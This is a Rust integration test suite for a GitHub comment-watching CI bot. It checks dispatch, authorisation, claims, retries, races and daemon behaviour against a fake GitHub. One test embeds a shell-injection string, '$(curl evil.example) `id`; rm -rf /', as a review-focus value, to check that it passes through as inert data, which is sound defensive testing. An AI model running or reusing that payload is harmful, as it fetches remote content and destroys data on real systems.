//! `watch` against the fake GitHub (issue #15): the real binary, one-shot and as a daemon,
//! alone and two at once, killed and restarted. Commands are comments on PR #500 of the
//! upstream repository; dispatches land in the bot repository, where the fake keeps them.

use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use fake_github::FakeGithub;
use serde_json::{json, Value};

use crate::monitor::{scenario, BOT_REPO, UPSTREAM};

const PR: u64 = 500;
const PLAIN_ISSUE: u64 = 7;
const MAINTAINER: &str = "HaiShaw";

// The writes a watcher may make.
const REACT: &str = "POST /repos/sgl-project/sglang/issues/comments/{id}/reactions";
const UNREACT: &str = "DELETE /repos/sgl-project/sglang/issues/comments/{id}/reactions/{rid}";
const DISPATCH: &str = "POST /repos/amd-ci/sglang-ci-bot/dispatches";
const REPLY: &str = "POST /repos/sgl-project/sglang/issues/{number}/comments";
const ALL_WRITES: [&str; 4] = [REACT, UNREACT, DISPATCH, REPLY];

/// GitHub's timestamp `minutes` ago.
fn ago(minutes: i64) -> String {
    (chrono::Utc::now() - chrono::Duration::minutes(minutes))
        .format("%Y-%m-%dT%H:%M:%SZ")
        .to_string()
}

/// A comment written five minutes ago.
fn comment(id: u64, user: &str, body: &str) -> Value {
    json!({"id": id, "user": user, "body": body, "created_at": ago(5)})
}

/// Upstream with PR #500 holding `comments` and a plain issue #7; an empty bot repository.
fn upstream(comments: Vec<Value>) -> Value {
    json!({
        "tokens": {"other-token": "someone-else"},
        "repos": {
            UPSTREAM: {"issues": [
                {"number": PR, "title": "Fix ROCm kernels", "user": "contributor", "pull_request": true,
                 "comments": comments},
                {"number": PLAIN_ISSUE, "title": "A plain issue", "user": "contributor", "comments": []}
            ]},
            BOT_REPO: {}
        }
    })
}

fn fake_with(comments: Vec<Value>) -> FakeGithub {
    let fake = FakeGithub::start(scenario(upstream(comments)));
    fake.expect_writes(ALL_WRITES);
    fake
}

/// A checkout the watcher runs in: its `.state/` survives between runs, like the cron's
/// cached state or the daemon's folder.
struct Checkout {
    dir: tempfile::TempDir,
}

impl Checkout {
    /// With a configuration: no retries (faults hit once), a claim timeout, three attempts.
    fn new(claim_timeout_secs: u64, max_attempts: u32) -> Checkout {
        let dir = tempfile::tempdir().expect("temp dir");
        std::fs::write(
            dir.path().join("sglang-bot.toml"),
            format!(
                "[github]\nmax_attempts = 1\nretry_base_delay_ms = 10\n\n[watch]\nclaim_timeout_secs = {claim_timeout_secs}\nmax_attempts = {max_attempts}\n"
            ),
        )
        .expect("config");
        for sub in ["home", "tmp"] {
            std::fs::create_dir_all(dir.path().join(sub)).expect("dirs");
        }
        Checkout { dir }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn command(&self, fake: &FakeGithub, token: &str, args: &[&str]) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_sglang-bot"));
        cmd.arg("watch")
            .args(["--bot-repo", BOT_REPO])
            .args(args)
            .current_dir(self.path())
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .envs(std::env::var_os("LLVM_PROFILE_FILE").map(|v| ("LLVM_PROFILE_FILE", v)))
            .env("HOME", self.path().join("home"))
            .env("TMPDIR", self.path().join("tmp"))
            .env("GITHUB_API_URL", fake.url())
            .env("BOT_PAT", token)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        cmd
    }

    /// One pass; returns the exit code and stderr (the log).
    fn pass_as(&self, fake: &FakeGithub, token: &str, args: &[&str]) -> (i32, String) {
        let out = self
            .command(fake, token, args)
            .output()
            .expect("run sglang-bot watch");
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        (out.status.code().unwrap_or(-1), stderr)
    }

    /// One pass as the bot, which must succeed.
    #[track_caller]
    fn pass(&self, fake: &FakeGithub) -> String {
        let (code, log) = self.pass_as(fake, "bot-token-1234567890", &[]);
        assert_eq!(code, 0, "{log}");
        log
    }

    fn spawn(&self, fake: &FakeGithub, args: &[&str]) -> Child {
        self.command(fake, "bot-token-1234567890", args)
            .spawn()
            .expect("spawn sglang-bot watch")
    }

    fn state(&self) -> Value {
        let text = std::fs::read_to_string(self.path().join(".state/last_check.json"))
            .expect("state saved");
        serde_json::from_str(&text).expect("state is JSON")
    }
}

/// The bot's reactions on a comment, in order.
fn bot_reactions(fake: &FakeGithub, id: u64) -> Vec<String> {
    fake.reactions(UPSTREAM, id)
        .into_iter()
        .filter(|(user, _)| user == "amd-bot")
        .map(|(_, content)| content)
        .collect()
}

fn dispatched(fake: &FakeGithub) -> Vec<Value> {
    fake.dispatches(BOT_REPO)
}

fn replies(fake: &FakeGithub) -> Vec<String> {
    fake.comments(UPSTREAM, PR)
        .into_iter()
        .filter(|c| c.author == "amd-bot")
        .map(|c| c.body)
        .collect()
}

fn writes(fake: &FakeGithub) -> Vec<String> {
    fake.writes()
        .into_iter()
        .map(|w| format!("{} {}", w.method, w.path))
        .collect()
}

fn terminate(child: &Child) {
    let pid = rustix::process::Pid::from_child(child);
    rustix::process::kill_process(pid, rustix::process::Signal::TERM).expect("SIGTERM");
}

fn wait_output(child: Child) -> (i32, String) {
    let out = child.wait_with_output().expect("wait");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

// ---- Dispatch and payload ----

#[test]
fn a_ci_status_command_is_claimed_dispatched_then_acknowledged_in_that_order() {
    let fake = fake_with(vec![comment(
        9001,
        MAINTAINER,
        "Please check.\n@amd-bot ci-status",
    )]);
    let log = Checkout::new(600, 3).pass(&fake);
    assert_eq!(
        dispatched(&fake),
        [json!({"event_type": "ci-status", "client_payload": {
            "pr_number": "500", "comment_id": "9001", "comment_author": MAINTAINER}})]
    );
    assert_eq!(
        writes(&fake),
        [
            "POST /repos/sgl-project/sglang/issues/comments/9001/reactions",
            "POST /repos/amd-ci/sglang-ci-bot/dispatches",
            "POST /repos/sgl-project/sglang/issues/comments/9001/reactions",
        ]
    );
    assert_eq!(bot_reactions(&fake, 9001), ["rocket", "eyes"]);
    assert!(
        log.contains("Poll: 1 comments, 1 new commands: 1 dispatched"),
        "{log}"
    );
}

#[test]
fn reviews_carry_their_focus_as_data_and_an_empty_focus_without_areas() {
    let focus = "$(curl evil.example) `id`; rm -rf / && echo \"x\" | tee 'y'\nand memory";
    let fake = fake_with(vec![
        comment(9001, MAINTAINER, &format!("@amd-bot review-focus {focus}")),
        comment(9002, "bingxche", "@amd-bot review-focus"),
    ]);
    // The second review of the PR falls in the first one's cooldown.
    let checkout = Checkout::new(600, 3);
    std::fs::write(
        checkout.path().join("sglang-bot.toml"),
        "[github]\nmax_attempts = 1\n[watch]\nreview_cooldown_mins = 0\n",
    )
    .unwrap();
    checkout.pass(&fake);
    let sent = dispatched(&fake);
    assert_eq!(sent.len(), 2, "{sent:?}");
    assert_eq!(sent[0]["event_type"], "pr-review");
    assert_eq!(sent[0]["client_payload"]["focus"], focus);
    assert_eq!(
        sent[1]["client_payload"],
        json!({"pr_number": "500", "comment_id": "9002", "comment_author": "bingxche", "focus": ""})
    );
}

#[test]
fn a_second_review_of_a_pr_within_the_cooldown_gets_a_one_line_reply() {
    let fake = fake_with(vec![
        comment(9001, MAINTAINER, "@amd-bot review"),
        comment(9002, "bingxche", "@amd-bot"),
    ]);
    Checkout::new(600, 3).pass(&fake);
    assert_eq!(dispatched(&fake).len(), 1);
    let replies = replies(&fake);
    assert_eq!(replies.len(), 1, "{replies:?}");
    assert!(
        replies[0].starts_with("`@amd-bot review` skipped") && !replies[0].contains('\n'),
        "{replies:?}"
    );
    assert_eq!(bot_reactions(&fake, 9002), ["rocket", "eyes"]);
}

#[test]
fn the_cooldown_holds_across_watchers_that_keep_separate_state() {
    let fake = fake_with(vec![comment(9001, MAINTAINER, "@amd-bot review")]);
    // The daemon answers the first review from its own folder…
    Checkout::new(600, 3).pass(&fake);
    assert_eq!(dispatched(&fake).len(), 1);
    // …then a second review arrives and the cron, with a fresh state, sees it first.
    fake.add(scenario(json!({"repos": {UPSTREAM: {"issues": [{
        "number": PR, "title": "Fix ROCm kernels", "user": "contributor", "pull_request": true,
        "comments": [comment(9002, "bingxche", "@amd-bot review")]
    }]}}})));
    Checkout::new(600, 3).pass(&fake);
    assert_eq!(
        dispatched(&fake).len(),
        1,
        "no second review within the cooldown"
    );
    let replies = replies(&fake);
    assert!(
        replies
            .iter()
            .any(|r| r.starts_with("`@amd-bot review` skipped")),
        "{replies:?}"
    );
}

#[test]
fn help_and_unknown_commands_get_one_reply_each_and_no_dispatch() {
    let fake = fake_with(vec![
        comment(9001, MAINTAINER, "@amd-bot help"),
        comment(9002, MAINTAINER, "@amd-bot rebase please"),
    ]);
    let checkout = Checkout::new(600, 3);
    checkout.pass(&fake);
    checkout.pass(&fake);
    assert!(dispatched(&fake).is_empty());
    let replies = replies(&fake);
    assert_eq!(replies.len(), 2, "{replies:?}");
    assert!(
        replies[0].starts_with("## amd-bot Help\n"),
        "{}",
        replies[0]
    );
    assert!(
        replies[1].starts_with("Unknown command `rebase`.\n\n## amd-bot Help"),
        "{}",
        replies[1]
    );
    // The bot's own replies are read on the next pass and answered by nothing.
    fake.reset_requests();
    Checkout::new(600, 3).pass(&fake);
    assert_eq!(replies.len(), 2);
    assert!(writes(&fake).is_empty(), "{:?}", writes(&fake));
}

#[test]
fn mentions_in_code_quotes_comments_or_mid_sentence_are_not_answered() {
    let fake = fake_with(vec![
        comment(9001, MAINTAINER, "```\n@amd-bot review\n```"),
        comment(9002, MAINTAINER, "> @amd-bot review\n\nquoting the above"),
        comment(9003, MAINTAINER, "<!--\n@amd-bot ci-status\n-->"),
        comment(9004, MAINTAINER, "thanks @amd-bot!"),
        comment(9005, MAINTAINER, "`@amd-bot review` is the command"),
        comment(9006, MAINTAINER, "write `like\n@amd-bot review` to ask"),
        comment(9007, MAINTAINER, "- ```\n  @amd-bot review\n  ```"),
    ]);
    let log = Checkout::new(600, 3).pass(&fake);
    assert!(writes(&fake).is_empty(), "{:?}", writes(&fake));
    assert!(log.contains("Poll: 7 comments, 0 new commands"), "{log}");
}

// ---- Who may command ----

#[test]
fn unauthorised_users_the_bot_itself_and_bot_accounts_are_not_obeyed() {
    let fake = fake_with(vec![
        comment(9001, "haishaw2", "@amd-bot ci-status"),
        comment(9002, "amd-bot", "@amd-bot ci-status"),
        comment(9003, "github-actions[bot]", "@amd-bot ci-status"),
        comment(9004, "bowenbao", "@amd-bot ci-status"),
    ]);
    Checkout::new(600, 3).pass(&fake);
    let sent = dispatched(&fake);
    assert_eq!(sent.len(), 1, "{sent:?}");
    assert_eq!(sent[0]["client_payload"]["comment_author"], "bowenbao");
    for id in [9001, 9002, 9003] {
        assert!(fake.reactions(UPSTREAM, id).is_empty(), "{id}");
    }
}

#[test]
fn a_token_of_another_account_stops_the_watcher_with_exit_2() {
    let fake = fake_with(vec![comment(9001, MAINTAINER, "@amd-bot ci-status")]);
    let (code, log) = Checkout::new(600, 3).pass_as(&fake, "other-token", &[]);
    assert_eq!(code, 2, "{log}");
    assert!(
        log.contains("\"someone-else\"") && log.contains("watch.bot_login"),
        "{log}"
    );
    assert!(dispatched(&fake).is_empty());
    let read: Vec<String> = fake.requests().into_iter().map(|r| r.path).collect();
    assert_eq!(read, ["/user"]);
}

#[test]
fn the_token_is_bot_pat_before_gh_pat_and_none_stops_the_watcher_before_any_request() {
    let fake = fake_with(vec![comment(9001, MAINTAINER, "@amd-bot ci-status")]);
    let checkout = Checkout::new(600, 3);
    let mut cmd = checkout.command(&fake, "other-token", &[]);
    cmd.env("GH_PAT", "bot-token-1234567890");
    let out = cmd.output().expect("run");
    let log = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(2),
        "BOT_PAT (someone-else) wins: {log}"
    );
    assert!(log.contains("\"someone-else\""), "{log}");
    fake.reset_requests();
    let mut cmd = checkout.command(&fake, "", &[]);
    cmd.env_remove("BOT_PAT");
    let out = cmd.output().expect("run");
    let log = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{log}");
    assert!(log.contains("no GitHub token"), "{log}");
    assert!(fake.requests().is_empty());
}

// ---- Claims ----

#[test]
fn someone_elses_rocket_is_no_claim_and_the_command_is_dispatched_once() {
    let mut c = comment(9001, MAINTAINER, "@amd-bot ci-status");
    c["reactions"] = json!([{"user": "bingxche", "content": "rocket", "created_at": ago(4)}]);
    let fake = fake_with(vec![c]);
    let checkout = Checkout::new(600, 3);
    checkout.pass(&fake);
    checkout.pass(&fake);
    Checkout::new(600, 3).pass(&fake);
    assert_eq!(dispatched(&fake).len(), 1);
    assert_eq!(bot_reactions(&fake, 9001), ["rocket", "eyes"]);
}

#[test]
fn an_edit_of_a_claimed_comment_is_ignored_by_this_watcher_and_by_a_fresh_one() {
    let fake = fake_with(vec![comment(9001, MAINTAINER, "@amd-bot ci-status")]);
    let checkout = Checkout::new(600, 3);
    checkout.pass(&fake);
    std::thread::sleep(Duration::from_millis(1100));
    fake.edit_comment(UPSTREAM, 9001, "@amd-bot review");
    fake.reset_requests();
    checkout.pass(&fake);
    // Processed locally: no reaction read, no write.
    assert!(fake
        .requests()
        .iter()
        .all(|r| !r.path.contains("/reactions") && !r.path.contains("/issues/500")));
    Checkout::new(600, 3).pass(&fake);
    assert_eq!(dispatched(&fake).len(), 1);
    assert_eq!(dispatched(&fake)[0]["event_type"], "ci-status");
}

#[test]
fn a_typo_fixed_before_the_watcher_saw_it_counts() {
    let fake = fake_with(vec![comment(9001, MAINTAINER, "@amd-bot ci-stat")]);
    fake.edit_comment(UPSTREAM, 9001, "@amd-bot ci-status");
    Checkout::new(600, 3).pass(&fake);
    assert_eq!(dispatched(&fake)[0]["event_type"], "ci-status");
    assert!(replies(&fake).is_empty());
}

#[test]
fn unreadable_reactions_count_as_unclaimed_and_the_claim_post_decides() {
    let mut s = upstream(vec![comment(9001, MAINTAINER, "@amd-bot ci-status")]);
    s["faults"] = json!([{"method": "GET", "path": "/comments/9001/reactions", "status": 500}]);
    let fake = FakeGithub::start(scenario(s));
    fake.expect_writes(ALL_WRITES);
    Checkout::new(600, 3).pass(&fake);
    assert_eq!(dispatched(&fake).len(), 1);
    assert_eq!(bot_reactions(&fake, 9001), ["rocket", "eyes"]);
}

#[test]
fn comments_on_plain_or_unreadable_issues_get_no_reaction() {
    let mut s = upstream(vec![]);
    s["repos"][UPSTREAM]["issues"][1]["comments"] =
        json!([comment(9001, MAINTAINER, "@amd-bot ci-status")]);
    s["repos"][UPSTREAM]["issues"]
        .as_array_mut()
        .unwrap()
        .push(json!({"number": 8, "title": "gone", "pull_request": true,
                     "comments": [comment(9002, MAINTAINER, "@amd-bot ci-status")]}));
    s["faults"] = json!([{"method": "GET", "path": "/issues/8$", "status": 404, "times": 5}]);
    let fake = FakeGithub::start(scenario(s));
    fake.expect_writes(ALL_WRITES);
    Checkout::new(600, 3).pass(&fake);
    assert!(writes(&fake).is_empty(), "{:?}", writes(&fake));
}

#[test]
fn a_failed_acknowledgement_only_warns_and_the_command_stays_answered() {
    let mut s = upstream(vec![comment(9001, MAINTAINER, "@amd-bot ci-status")]);
    s["faults"] = json!([{"method": "POST", "path": "/reactions$", "body_contains": "eyes",
                          "status": 500, "times": 1}]);
    let fake = FakeGithub::start(scenario(s));
    fake.expect_writes(ALL_WRITES);
    let checkout = Checkout::new(600, 3);
    let log = checkout.pass(&fake);
    assert!(log.contains("cannot add eyes"), "{log}");
    assert_eq!(bot_reactions(&fake, 9001), ["rocket"]);
    checkout.pass(&fake);
    assert_eq!(dispatched(&fake).len(), 1, "not dispatched again");
}

#[test]
fn a_dry_run_writes_nothing_and_keeps_no_state() {
    let fake = fake_with(vec![comment(9001, MAINTAINER, "@amd-bot ci-status")]);
    let checkout = Checkout::new(600, 3);
    let (code, log) = checkout.pass_as(&fake, "bot-token-1234567890", &["--dry-run"]);
    assert_eq!(code, 0, "{log}");
    assert!(
        log.contains("would POST /repos/amd-ci/sglang-ci-bot/dispatches"),
        "{log}"
    );
    assert!(writes(&fake).is_empty(), "{:?}", writes(&fake));
    assert!(!checkout.path().join(".state").exists());
    // Nothing was kept: the real pass that follows answers the command.
    checkout.pass(&fake);
    assert_eq!(dispatched(&fake).len(), 1);
}

#[test]
fn without_a_cursor_a_one_shot_pass_looks_back_since_hours() {
    let mut old = comment(9001, MAINTAINER, "@amd-bot ci-status");
    old["created_at"] = json!(ago(90));
    let fake = fake_with(vec![old]);
    Checkout::new(600, 3).pass(&fake);
    assert!(
        dispatched(&fake).is_empty(),
        "90 minutes ago is outside one hour"
    );
    Checkout::new(600, 3).pass_as(&fake, "bot-token-1234567890", &["--since-hours", "2"]);
    assert_eq!(dispatched(&fake).len(), 1);
}

#[test]
fn an_old_cursor_starts_no_command_older_than_a_day_unless_since_hours_is_longer() {
    // Written 30 hours ago and edited since: the listing returns it, its age stops it.
    let mut old = comment(9001, MAINTAINER, "@amd-bot ci-status");
    old["created_at"] = json!(ago(30 * 60));
    old["updated_at"] = json!(ago(120));
    let fake = fake_with(vec![old, comment(9002, MAINTAINER, "@amd-bot ci-status")]);
    let checkout = Checkout::new(600, 3);
    std::fs::create_dir_all(checkout.path().join(".state")).unwrap();
    std::fs::write(
        checkout.path().join(".state/last_check.json"),
        json!({"processed_comment_ids": [], "cursor": {"updated_at": ago(3 * 24 * 60), "id": 1}})
            .to_string(),
    )
    .unwrap();
    let log = checkout.pass(&fake);
    assert!(
        log.contains("comment 9001 holds a command older than 24 hours"),
        "{log}"
    );
    let sent: Vec<Value> = dispatched(&fake);
    assert_eq!(sent.len(), 1, "{sent:?}");
    assert_eq!(sent[0]["client_payload"]["comment_id"], "9002");
    let listing = fake
        .requests()
        .into_iter()
        .find(|r| r.path.contains("/issues/comments?"))
        .expect("a listing");
    assert!(
        listing.path.contains("%3A00%3A00Z"),
        "a day back, on the hour: {}",
        listing.path
    );
    Checkout::new(600, 3).pass_as(&fake, "bot-token-1234567890", &["--since-hours", "48"]);
    assert_eq!(dispatched(&fake).len(), 2);
}

// ---- Failures ----

#[test]
fn a_dispatch_failing_twice_is_retried_by_later_passes_and_dispatched_once() {
    let mut s = upstream(vec![comment(9001, MAINTAINER, "@amd-bot ci-status")]);
    s["faults"] = json!([{"method": "POST", "path": "/dispatches$", "status": 502, "times": 2}]);
    let fake = FakeGithub::start(scenario(s));
    fake.expect_writes(ALL_WRITES);
    let checkout = Checkout::new(600, 5);
    for attempt in 1..=2 {
        let log = checkout.pass(&fake);
        assert!(
            bot_reactions(&fake, 9001).is_empty(),
            "claim released after attempt {attempt}"
        );
        assert!(
            log.contains(&format!("attempt {attempt} of 5 failed")),
            "{log}"
        );
        assert_eq!(checkout.state()["attempts"]["9001"], attempt);
    }
    checkout.pass(&fake);
    assert_eq!(dispatched(&fake).len(), 1);
    assert_eq!(bot_reactions(&fake, 9001), ["rocket", "eyes"]);
    checkout.pass(&fake);
    assert_eq!(dispatched(&fake).len(), 1);
    assert!(replies(&fake).is_empty());
    assert!(checkout.state().get("attempts").is_none());
}

#[test]
fn a_dispatch_failing_every_time_gets_one_failure_reply_after_the_last_attempt() {
    let mut s = upstream(vec![comment(9001, MAINTAINER, "@amd-bot ci-status")]);
    s["faults"] = json!([{"method": "POST", "path": "/dispatches$", "status": 502, "times": 100}]);
    let fake = FakeGithub::start(scenario(s));
    fake.expect_writes(ALL_WRITES);
    let checkout = Checkout::new(600, 3);
    for _ in 0..2 {
        checkout.pass(&fake);
        assert!(replies(&fake).is_empty());
    }
    checkout.pass(&fake);
    let replies_now = replies(&fake);
    assert_eq!(replies_now.len(), 1, "{replies_now:?}");
    assert!(replies_now[0].starts_with("<!-- amd-bot-watch-failed: 9001 -->\n`@amd-bot ci-status` could not be started after 3 attempts"), "{}", replies_now[0]);
    assert_eq!(bot_reactions(&fake, 9001), ["confused"]);
    // Neither this watcher nor a fresh one tries again or replies again.
    checkout.pass(&fake);
    Checkout::new(600, 3).pass(&fake);
    assert_eq!(replies(&fake).len(), 1);
    assert!(dispatched(&fake).is_empty());
}

// ---- Races ----

#[test]
fn two_watchers_racing_for_the_same_commands_dispatch_each_once() {
    let mut s = upstream(vec![
        comment(9001, MAINTAINER, "@amd-bot ci-status"),
        comment(9002, "bingxche", "@amd-bot review"),
        comment(9003, "bowenbao", "@amd-bot help"),
    ]);
    // The first claim of each comment waits for the second: both watchers read no claim
    // before either lands, so a check-then-react watcher would answer twice.
    s["barriers"] = json!([{"method": "POST", "path": "/reactions$", "body_contains": "rocket",
                            "parties": 2, "timeout_ms": 10000}]);
    let fake = FakeGithub::start(scenario(s));
    fake.expect_writes(ALL_WRITES);
    let (one, two) = (Checkout::new(600, 3), Checkout::new(600, 3));
    let a = one.spawn(&fake, &[]);
    let b = two.spawn(&fake, &[]);
    let (code_a, log_a) = wait_output(a);
    let (code_b, log_b) = wait_output(b);
    assert_eq!((code_a, code_b), (0, 0), "{log_a}\n{log_b}");
    let mut kinds: Vec<String> = dispatched(&fake)
        .iter()
        .map(|d| format!("{} {}", d["event_type"], d["client_payload"]["comment_id"]))
        .collect();
    kinds.sort();
    assert_eq!(
        kinds,
        ["\"ci-status\" \"9001\"", "\"pr-review\" \"9002\""],
        "{log_a}\n{log_b}"
    );
    assert_eq!(replies(&fake).len(), 1, "one help reply");
    let lost = format!("{log_a}{log_b}")
        .matches("another watcher claimed it first")
        .count();
    assert_eq!(lost, 3, "{log_a}\n{log_b}");
}

#[test]
fn a_watcher_killed_between_claim_and_dispatch_is_taken_over_after_the_claim_timeout() {
    let mut s = upstream(vec![comment(9001, MAINTAINER, "@amd-bot ci-status")]);
    // The dispatch hangs: the watcher is killed while it waits.
    s["faults"] = json!([{"method": "POST", "path": "/dispatches$", "delay_ms": 30000,
                          "status": 504, "times": 1}]);
    let fake = FakeGithub::start(scenario(s));
    fake.expect_writes(ALL_WRITES);
    let checkout = Checkout::new(4, 3);
    let mut first = checkout.spawn(&fake, &[]);
    let deadline = Instant::now() + Duration::from_secs(20);
    while bot_reactions(&fake, 9001) != ["rocket"] {
        assert!(Instant::now() < deadline, "never claimed");
        std::thread::sleep(Duration::from_millis(50));
    }
    std::thread::sleep(Duration::from_millis(200));
    first.kill().expect("kill");
    first.wait().expect("reap");
    // Before the timeout another watcher leaves the claim alone …
    Checkout::new(4, 3).pass(&fake);
    assert!(dispatched(&fake).is_empty());
    assert_eq!(bot_reactions(&fake, 9001), ["rocket"]);
    // … after it, the claim is taken over and the command dispatched once.
    std::thread::sleep(Duration::from_millis(5100));
    let log = checkout.pass(&fake);
    assert!(log.contains("taking over a claim"), "{log}");
    assert_eq!(dispatched(&fake).len(), 1);
    assert_eq!(bot_reactions(&fake, 9001), ["rocket", "eyes"]);
}

// ---- Polling ----

#[test]
fn the_listing_pages_through_a_burst_without_a_300_comment_cap() {
    let mut comments: Vec<Value> = (0..350)
        .map(|i| comment(10_000 + i, "contributor", "LGTM"))
        .collect();
    comments.push(comment(20_000, MAINTAINER, "@amd-bot ci-status"));
    let fake = fake_with(comments);
    let log = Checkout::new(600, 3).pass(&fake);
    assert_eq!(dispatched(&fake).len(), 1, "{log}");
    assert!(log.contains("Poll: 351 comments"), "{log}");
    let listing: Vec<String> = fake
        .requests()
        .into_iter()
        .map(|r| r.path)
        .filter(|p| p.starts_with("/repos/sgl-project/sglang/issues/comments?"))
        .collect();
    assert_eq!(listing.len(), 4, "{listing:?}");
    assert!(
        listing[0].contains("sort=updated")
            && listing[0].contains("direction=asc")
            && listing[0].contains("since="),
        "{listing:?}"
    );
}

#[test]
fn a_pass_that_stops_at_1000_comments_says_so_and_the_next_one_continues() {
    let start = chrono::Utc::now() - chrono::Duration::minutes(50);
    let at = |i: i64| {
        (start + chrono::Duration::seconds(i))
            .format("%Y-%m-%dT%H:%M:%SZ")
            .to_string()
    };
    let mut comments: Vec<Value> = (0..1050)
        .map(|i| json!({"id": 10_000 + i, "user": "contributor", "body": "LGTM", "created_at": at(i)}))
        .collect();
    comments.push(json!({"id": 20_000, "user": MAINTAINER, "body": "@amd-bot ci-status", "created_at": at(1100)}));
    let fake = fake_with(comments);
    let checkout = Checkout::new(600, 3);
    let log = checkout.pass(&fake);
    assert!(log.contains("stopped after 1000 comments"), "{log}");
    assert!(
        log.contains("Poll: 1000 comments") && log.contains("(listing cut, continued next pass)"),
        "{log}"
    );
    assert!(dispatched(&fake).is_empty());
    assert_eq!(checkout.state()["cursor"]["id"], 10_999);
    let log = checkout.pass(&fake);
    assert_eq!(dispatched(&fake).len(), 1, "{log}");
    assert!(!log.contains("stopped after"), "{log}");
}

#[test]
fn a_daemon_backs_off_after_failed_passes_and_recovers() {
    let mut s = upstream(vec![comment(9001, MAINTAINER, "@amd-bot ci-status")]);
    s["faults"] =
        json!([{"method": "GET", "path": "/issues/comments\\?", "status": 502, "times": 2}]);
    let fake = FakeGithub::start(scenario(s));
    fake.expect_writes(ALL_WRITES);
    let checkout = Checkout::new(600, 3);
    let daemon = checkout.spawn(&fake, &["--daemon", "--poll-interval", "0.05"]);
    let deadline = Instant::now() + Duration::from_secs(20);
    while dispatched(&fake).is_empty() {
        assert!(Instant::now() < deadline, "never recovered");
        std::thread::sleep(Duration::from_millis(20));
    }
    terminate(&daemon);
    let (code, log) = wait_output(daemon);
    assert_eq!(code, 0, "{log}");
    // poll·2^n: 0.1 s, then 0.2 s.
    assert!(
        log.contains("next in 0.1 s") && log.contains("next in 0.2 s"),
        "{log}"
    );
    assert_eq!(log.matches("pass failed").count(), 2, "{log}");
    assert_eq!(dispatched(&fake).len(), 1);
}

#[test]
fn an_idle_daemon_costs_no_rate_limit_and_stops_cleanly_on_sigterm() {
    let fake = fake_with(vec![comment(9001, MAINTAINER, "@amd-bot ci-status")]);
    let checkout = Checkout::new(600, 3);
    checkout.pass(&fake);
    assert_eq!(dispatched(&fake).len(), 1);
    fake.reset_requests();
    let daemon = checkout.spawn(&fake, &["--daemon", "--poll-interval", "0.05"]);
    let deadline = Instant::now() + Duration::from_secs(30);
    while fake.requests().len() < 22 {
        assert!(
            Instant::now() < deadline,
            "the daemon did not poll 21 times"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    terminate(&daemon);
    let (code, log) = wait_output(daemon);
    assert_eq!(code, 0, "{log}");
    assert!(log.contains("Daemon stopped."), "{log}");
    let requests = fake.requests();
    // GET /user at start, then one listing per poll: the first from the cursor the one-shot
    // pass left, every later one conditional and answered 304.
    assert_eq!(requests[0].path, "/user");
    let polls = &requests[1..];
    assert!(polls.len() >= 21, "{polls:?}");
    for r in polls {
        assert!(
            r.path
                .starts_with("/repos/sgl-project/sglang/issues/comments?"),
            "{r}"
        );
        assert_eq!(r.path, polls[0].path, "the same request every poll");
    }
    for r in &polls[1..] {
        assert_eq!(r.status, 304, "{r}");
    }
    assert!(
        log.contains("1 requests, 1 answered 304, 0 rate-limit points"),
        "{log}"
    );
    assert_eq!(dispatched(&fake).len(), 1);
}

#[test]
fn sigterm_during_a_poll_finishes_the_command_in_hand_saves_the_state_and_exits_0() {
    let mut s = upstream(vec![
        comment(9001, MAINTAINER, "@amd-bot ci-status"),
        comment(9002, MAINTAINER, "@amd-bot review"),
    ]);
    // The first dispatch answers slowly: the signal arrives while it is in flight.
    s["faults"] = json!([{"method": "POST", "path": "/dispatches$", "delay_ms": 1500}]);
    let fake = FakeGithub::start(scenario(s));
    fake.expect_writes(ALL_WRITES);
    let checkout = Checkout::new(600, 3);
    let daemon = checkout.spawn(&fake, &["--daemon", "--poll-interval", "30"]);
    let deadline = Instant::now() + Duration::from_secs(20);
    while bot_reactions(&fake, 9001) != ["rocket"] {
        assert!(Instant::now() < deadline, "never claimed");
        std::thread::sleep(Duration::from_millis(20));
    }
    let sent = Instant::now();
    terminate(&daemon);
    let (code, log) = wait_output(daemon);
    assert_eq!(code, 0, "{log}");
    assert!(sent.elapsed() < Duration::from_secs(10), "{log}");
    assert!(log.contains("Daemon stopped."), "{log}");
    // The command in hand was finished; the next one was left for the next run.
    assert_eq!(dispatched(&fake).len(), 1, "{log}");
    assert_eq!(bot_reactions(&fake, 9001), ["rocket", "eyes"]);
    assert!(fake.reactions(UPSTREAM, 9002).is_empty());
    let state = checkout.state();
    assert_eq!(state["processed_comment_ids"], json!([9001]), "{state}");
    assert_eq!(state["cursor"]["id"], 9001, "{state}");
    checkout.pass(&fake);
    assert_eq!(dispatched(&fake).len(), 2);
}
